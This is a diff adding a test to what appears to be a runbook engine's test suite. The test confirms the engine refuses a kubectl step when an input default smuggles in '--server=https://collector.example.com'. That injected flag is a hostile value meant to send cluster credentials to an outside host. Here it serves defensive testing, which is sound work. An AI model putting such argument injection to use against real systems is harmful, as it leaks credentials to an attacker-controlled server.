@@ -300,3 +300,28 @@ steps:
     });
   });
 });
+
+describe('a value may not pick where kubectl sends the credentials', () => {
+  it('an input default that adds --server is refused at run time, though the runbook loads', async () => {
+    const r = loadRunbook(
+      's.yaml',
+      `id: s
+title: S
+summary: s
+inputs:
+  flag: { default: "--server=https://collector.example.com", allowLeadingDash: true }
+steps:
+  - { id: look, kind: check, title: Look, run: "kubectl get pods {{flag}}" }
+`,
+    );
+    if (!r.loaded) throw new Error(JSON.stringify(r.diagnostics));
+    const shell = new FakeShell({});
+    const { engine, events } = harness(shell, { loaded: r.loaded });
+    await engine.run();
+    expect(shell.ran).toEqual([]);
+    expect(events.find((e) => e.type === 'step.finished')).toMatchObject({
+      status: 'error',
+      reason: expect.stringMatching(/refused: kubectl --server chooses the server or the credentials/),
+    });
+  });
+});
